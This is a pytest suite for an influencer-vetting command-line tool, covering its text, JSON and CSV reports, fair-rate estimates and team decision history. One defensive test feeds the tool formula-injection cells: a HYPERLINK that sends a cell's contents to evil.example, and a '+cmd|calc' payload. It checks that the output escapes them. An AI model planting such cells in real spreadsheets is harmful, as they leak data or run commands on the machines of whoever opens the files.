"""`creatorops vet` as a person runs it: the report, JSON, a CSV of many creators, and the team's decisions.

Every test runs the real command (`bot.cli.main`) on the built-in samples, with DATABASE_URL pointing at a SQLite
file in a temporary folder.
"""

from __future__ import annotations

import csv
import io
import json
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from rich.console import Console

from bot.cli import main
from bot.cli import vet as vet_cli
from bot.cli.csv_cells import FORMULA_STARTS, safe_cell
from bot.sources.snapshot import SAMPLES_DIR
from bot.vetting.audience.model import load_model, shipped_model_path
from bot.vetting.report import VetReport
from storage.db import make_engine, transaction
from storage.models import VetDecision, VetRun
from tests.vetting.builders import NOW

NOW_ARG = NOW.isoformat()
LIVE_SETTINGS = (
    "SLACK_BOT_TOKEN",
    "SLACK_SIGNING_SECRET",
    "SLACK_APP_TOKEN",
    "SLACK_CLIENT_ID",
    "SLACK_CLIENT_SECRET",
    "YOUTUBE_API_KEY",
    "INSTAGRAM_BUSINESS_ACCOUNT_ID",
    "INSTAGRAM_ACCESS_TOKEN",
    "DEFAULT_PLATFORM",
    "DEFAULT_JURISDICTION",
    "SNAPSHOT_DIR",
)


@pytest.fixture
def database_url(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A fresh SQLite file as DATABASE_URL, run from an empty folder (no .env), never a live API."""
    monkeypatch.chdir(tmp_path)
    for name in LIVE_SETTINGS:
        monkeypatch.delenv(name, raising=False)
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    return url


def vet(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(["vet", *argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def decide(database_url: str, decision: str, *, team_id: str = vet_cli.LOCAL_TEAM) -> None:
    """A decision as the card's buttons record it, on a stored run of @bella_bought_sample."""
    engine = make_engine(database_url)
    with transaction(engine) as session:
        run = VetRun(
            team_id=team_id,
            platform="instagram",
            handle="bella_bought_sample",
            requested_by="U0ALICE",
            score=44,
            verdict="avoid",
            report={},
        )
        session.add(run)
        session.flush()
        session.add(
            VetDecision(
                team_id=team_id,
                vet_run_id=run.id,
                platform=run.platform,
                handle=run.handle,
                decision=decision,
                user_id="U0ALICE",
                decided_at=datetime(2026, 3, 3, 10, 0, tzinfo=UTC),
            )
        )
    engine.dispose()


def test_vet_prints_verdict_red_flags_rate_and_decision(database_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = vet(capsys, "@bella_bought_sample", "ask:$800", "--now", NOW_ARG)

    assert code == 0
    assert out.startswith("@bella_bought_sample (instagram, micro, 52,310 followers)\nVerdict: AVOID, score 50/100")
    assert "  [FAIL] Follower growth: 2 unexplained spikes, biggest +10,014 (10,000 above usual)" in out
    assert "      Could also be: A giveaway, a shout-out" in out
    assert "  [FAIL] Fake followers: 55 % (95 % CI 42 %-69 %, n=200)" in out  # the audience classifier's estimate
    assert "Fair rate: $245 per post (band $175-$350), the middle half of fees" in out
    assert (
        "  engagement -16 %: 0.46 % per follower is below the 0.54-3.07 % benchmark; a fee follows impressions" in out
    )
    assert "Ask: $800 is 227 % above the fair point $245, above the band $175-$350" in out
    assert "Data: snapshot, fetched 2026-03-02 09:00 UTC, 1 day ago\nDecision: none yet" in out


def test_terminal_output_is_the_card_as_tables(
    database_url: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    terminal = Console(file=sys.stdout, force_terminal=True, color_system=None, width=160)
    monkeypatch.setattr(vet_cli, "_stdout_console", lambda: terminal)

    code, out, _ = vet(capsys, "@bella_bought_sample", "ask:$800", "--now", NOW_ARG)

    assert code == 0
    lines = out.splitlines()
    assert lines[0].startswith("╭─ @bella_bought_sample · instagram · micro ─")
    assert "│ Avoid · score 50/100 · 95% of the signals readable" in lines[1]
    assert "Follower growth: 2 unexplained spikes, biggest +10,014 (10,000 above usual)" in out
    assert "Could also be: A giveaway, a shout-out" in out
    header = next(line for line in lines if "Signal" in line and "Evidence" in line)
    assert [cell.strip() for cell in header.strip("┃").split("┃")] == [
        "Signal",
        "Value",
        "Benchmark",
        "Verdict",
        "Evidence",
    ]
    assert any(line.startswith("│ Follower growth") and "│ FAIL" in line for line in lines)
    assert "Their ask: $800 is 227 % above the fair point $245, above the band $175-$350" in out
    assert lines[-2] == "Data: snapshot, fetched 2026-03-02 09:00 UTC, 1 day ago · Decision: none yet"


def test_json_prints_one_report_per_line(database_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = vet(capsys, "@nina_nano_sample", "@tariq_tiktok_sample", "tiktok", "--json", "--now", NOW_ARG)

    assert code == 0
    reports = [json.loads(line) for line in out.splitlines()]
    assert [(r["handle"], r["platform"], r["verdict"]) for r in reports] == [
        ("nina_nano_sample", "instagram", "recommended"),
        ("tariq_tiktok_sample", "tiktok", "recommended"),
    ]
    assert {"tier", "score", "signals", "red_flags", "rate", "ask", "key_numbers", "fetched_at"} <= reports[0].keys()


def test_unknown_creator_is_reported_after_the_others_and_bad_text_is_usage(
    database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = vet(capsys, "@nobody", "@nina_nano_sample", "--now", NOW_ARG)
    assert code == 1
    assert "Verdict: RECOMMENDED" in out
    assert "creatorops vet: We could not find @nobody on instagram." in err

    code, out, err = vet(capsys, "@a", "ask:free")
    assert (code, out) == (2, "")
    assert "Usage: /vet @handle" in err

    code, _, err = vet(capsys, "@a", "--csv", "creators.csv")
    assert code == 2
    assert err == "creatorops vet: give handles or --csv FILE, not both.\n"


def test_snapshots_folder_comes_before_the_samples(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    imported = json.loads((SAMPLES_DIR / "instagram_nina_nano_sample.json").read_text())
    imported["profile"]["handle"] = "zoe_imported"
    folder = tmp_path / "exports"
    folder.mkdir()
    (folder / "instagram_zoe_imported.json").write_text(json.dumps(imported))

    code, out, _ = vet(capsys, "@zoe_imported", "@pete_pod_sample", "--snapshots", "exports", "--now", NOW_ARG)

    assert code == 0
    assert "@zoe_imported (instagram, nano, 4,210 followers)" in out
    assert "@pete_pod_sample (instagram" in out


def test_csv_vets_every_row_and_explains_the_bad_ones(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "creators.csv").write_text(
        "Handle,Platform,Ask\n"
        "@bella_bought_sample,instagram,$800\n"
        "https://www.tiktok.com/@tariq_tiktok_sample,,\n"
        "@nobody,,\n"
        "@nina_nano_sample,facebook,\n"
        "help,,\n"
    )

    code, out, _ = vet(capsys, "--csv", "creators.csv", "--now", NOW_ARG)

    assert code == 1
    assert out == "Vetted 2 of 5 creators, 3 errors: results in creators_vetted.csv\n"
    with (tmp_path / "creators_vetted.csv").open(newline="") as results:
        rows = list(csv.DictReader(results))
    assert list(rows[0]) == list(vet_cli.CSV_COLUMNS)
    assert rows[0] == {
        "handle": "bella_bought_sample",
        "platform": "instagram",
        "tier": "micro",
        "verdict": "avoid",
        "score": "50",
        "followers": "52310",
        "engagement_rate_pct": "0.46",
        "fake_share": "0.554",
        "red_flags": "Follower growth; Fake followers; Audience reachability; Engagement rate (per follower)",
        "rate_low": "175",
        "rate_high": "350",
        "rate_point": "245",
        "rate_kind": "post",
        "ask_position": "above",
        "ask_pct": "226.5",
        "error": "",
    }
    assert (rows[1]["handle"], rows[1]["platform"], rows[1]["verdict"]) == (
        "tariq_tiktok_sample",
        "tiktok",
        "recommended",
    )
    assert (rows[2]["handle"], rows[2]["verdict"]) == ("nobody", "")
    assert rows[2]["error"].startswith("We could not find @nobody on instagram.")
    assert rows[3]["error"] == "Unknown platform `facebook`: use instagram, tiktok or youtube."
    # a cell is a creator, never a request for help: a creator called "help" is looked up like any other
    assert rows[4]["error"].startswith("We could not find @help on instagram.")


def test_csv_results_never_carry_a_formula_a_spreadsheet_would_run(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = [
        "handle,platform,ask",
        '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",instagram,100',
        "+cmd|calc,instagram,",
        "-2+3,instagram,",
        "@cmd,=1+2,",
    ]
    (tmp_path / "creators.csv").write_text("\n".join(hostile) + "\n")

    vet(capsys, "--csv", "creators.csv", "--now", NOW_ARG)

    with (tmp_path / "creators_vetted.csv").open(newline="") as results:
        rows = list(csv.DictReader(results))
    assert [row["handle"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "'+cmd|calc",
        "'-2+3",
        "'@cmd",
    ]
    assert rows[3]["platform"] == "'=1+2"
    cells = [cell for row in rows for cell in row.values()]
    assert all(not cell.startswith(FORMULA_STARTS) for cell in cells)  # the error text included


def test_a_negative_number_stays_a_number_in_a_csv():
    assert [safe_cell(v) for v in ("-12.50", -3, "-", "-1e9", "\tx", "x-y")] == [
        "-12.50",
        -3,
        "'-",
        "'-1e9",
        "'\tx",
        "x-y",
    ]


def test_csv_reads_a_plain_list_of_handles_and_links(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "list.txt").write_text(
        "@pete_pod_sample\nhttps://www.youtube.com/@yara_youtube_sample\n@tariq_tiktok_sample tiktok ask:$10\n"
    )

    code, out, _ = vet(capsys, "--csv", "list.txt", "--out", "vetted.csv", "--now", NOW_ARG)

    assert (code, out) == (0, "Vetted 3 of 3 creators, 0 errors: results in vetted.csv\n")
    with (tmp_path / "vetted.csv").open(newline="") as results:
        rows = [(row["handle"], row["platform"], row["ask_position"], row["error"]) for row in csv.DictReader(results)]
    assert rows == [
        ("pete_pod_sample", "instagram", "", ""),
        ("yara_youtube_sample", "youtube", "", ""),
        ("tariq_tiktok_sample", "tiktok", "below", ""),
    ]


def test_the_text_names_the_fake_follower_model_as_the_card_does_when_it_is_no_red_flag(
    database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = vet(capsys, "@nina_nano_sample", "--now", NOW_ARG)

    assert code == 0
    signal, evidence = out.split("  [  ok] Fake followers: ", 1)[1].splitlines()[:2]
    assert signal.startswith("12 % (95 % CI ")
    assert evidence.startswith("      About 12 % of 200 sampled followers look fake. Model: shipped model (InstaFake")
    error = load_model(shipped_model_path()).quantifier.error
    assert error is not None
    assert f"its estimate was off by up to {error.points:.0f} points on synthetic audits" in evidence
    assert out.count("Model: shipped model") == 1


def test_csv_and_json_and_text_give_the_same_rate_and_ask_for_the_same_deal(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ("@bella_bought_sample", "ask:€800", "reel", "exclusive", "usage", "niche:finance")
    (tmp_path / "list.txt").write_text(" ".join(words) + "\n")

    _, text, _ = vet(capsys, *words, "--now", NOW_ARG)
    _, as_json, _ = vet(capsys, *words, "--json", "--now", NOW_ARG)
    code, _, _ = vet(capsys, "--csv", "list.txt", "--now", NOW_ARG)

    report = json.loads(as_json)
    with (tmp_path / "list_vetted.csv").open(newline="") as results:
        [row] = list(csv.DictReader(results))
    rate, ask = report["rate"], report["ask"]
    assert code == 0
    assert f"Fair rate: ${rate['point']:,.0f} per reel (band ${rate['low']:,.0f}-${rate['high']:,.0f})" in text
    assert f"Ask: {ask['text']}" in text and ask["text"].startswith("€800 (about $880) is ")
    assert (row["rate_point"], row["rate_low"], row["rate_high"], row["rate_kind"]) == (
        f"{rate['point']:.0f}",
        f"{rate['low']:.0f}",
        f"{rate['high']:.0f}",
        "reel",
    )
    assert (row["ask_position"], float(row["ask_pct"])) == (ask["position"], ask["difference_pct"])
    assert f"{abs(ask['difference_pct']):.0f} % " in ask["text"]


@pytest.mark.parametrize(
    ("content", "says"),
    [
        ("handle,ask\n@nina_nano_sample," + "9" * 200_000 + "\n", "is not a CSV this can read (field larger than"),
        ("handle\n" + "@someone\n" * 10_001, "has 10,002 lines; split it into files of at most 10,000."),
        ("a,b\n" + "x" * 5_000 + ",y\n", "has no `handle` column (its columns: a, b)."),
    ],
)
def test_a_huge_csv_is_refused_with_what_to_do_instead(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], content: str, says: str
) -> None:
    (tmp_path / "big.csv").write_text(content)

    code, out, err = vet(capsys, "--csv", "big.csv", "--now", NOW_ARG)

    assert code == 2 and out == ""
    assert says in err and len(err) < 600
    assert not (tmp_path / "big_vetted.csv").exists()


def test_csv_will_not_write_its_results_over_the_list(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "list.csv").write_text("handle\n@nina_nano_sample\n")

    code, out, err = vet(capsys, "--csv", "list.csv", "--out", "./list.csv", "--now", NOW_ARG)

    assert (code, out) == (2, "")
    assert "--out ./list.csv is the list itself and would be overwritten; give another file name." in err
    assert (tmp_path / "list.csv").read_text() == "handle\n@nina_nano_sample\n"


def test_history_lists_the_teams_decisions_newest_first(database_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = vet(capsys, "history")
    assert (code, out) == (0, "No decisions yet in team T0LOCAL.\n")

    decide(database_url, "shortlisted")
    decide(database_url, "needs_human", team_id="T0OTHER")

    code, out, _ = vet(capsys, "history")
    assert code == 0
    assert out.splitlines() == [
        "When (UTC)        Who           Decision       Creator                               Verdict      Score",
        "2026-03-03 10:00  U0ALICE       shortlisted    @bella_bought_sample (instagram)      avoid        44/100",
    ]
    code, out, _ = vet(capsys, "history", "--team", "T0OTHER")
    assert "U0ALICE       needs a human  @bella_bought_sample (instagram)" in out  # as the card's button says it

    code, out, _ = vet(capsys, "history", "@bella_bought_sample", "--team", "T0OTHER", "--json")
    assert json.loads(out) == [
        {
            "decided_at": "2026-03-03T10:00:00+00:00",
            "user_id": "U0ALICE",
            "decision": "needs_human",
            "handle": "bella_bought_sample",
            "platform": "instagram",
            "verdict": "avoid",
            "score": 44,
            "vet_run_id": 2,
        }
    ]
    code, out, _ = vet(capsys, "history", "@nina_nano_sample")
    assert out == "No decisions on @nina_nano_sample yet in team T0LOCAL.\n"

    # The card shows the team's latest decision; so does the terminal report.
    code, out, _ = vet(capsys, "@bella_bought_sample", "--now", NOW_ARG)
    assert "Decision: shortlisted by U0ALICE on 2026-03-03 10:00 UTC" in out


def test_a_creator_called_history_is_vetted_with_an_at_sign(
    database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = vet(capsys, "@history", "--now", NOW_ARG)

    assert (code, out) == (1, "")
    assert "We could not find @history on instagram." in err


def test_render_report_without_red_flags(database_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = vet(capsys, "@tariq_tiktok_sample", "tiktok", "--json", "--now", NOW_ARG)
    report = VetReport.model_validate_json(out)
    decision = ("approved", "U0BOB", datetime(2026, 3, 4, 8, 30, tzinfo=UTC))
    console = Console(file=io.StringIO(), width=120, color_system=None)

    console.print(vet_cli.render_report(report, decision))

    text = console.file.getvalue()
    assert "│ Recommended · score 100/100" in text
    assert "No red flags in the signals we could read." in text
    assert (
        "Data: snapshot, fetched 2026-03-02 09:00 UTC, 1 day ago · Decision: approved by U0BOB on 2026-03-04 08:30"
        in text
    )


def test_jurisdiction_option_sets_whose_disclosure_rules_apply(
    database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = vet(capsys, "@penny_promo_sample", "--now", NOW_ARG, "--jurisdiction", "de")

    assert code == 0
    assert "Ad disclosure:" in out and "(DE rules)" in out

    with pytest.raises(SystemExit) as refused:
        vet(capsys, "@penny_promo_sample", "--jurisdiction", "Narnia")
    assert refused.value.code == 2
    assert "invalid choice: 'NARNIA' (choose from 'US', 'UK'" in capsys.readouterr().err
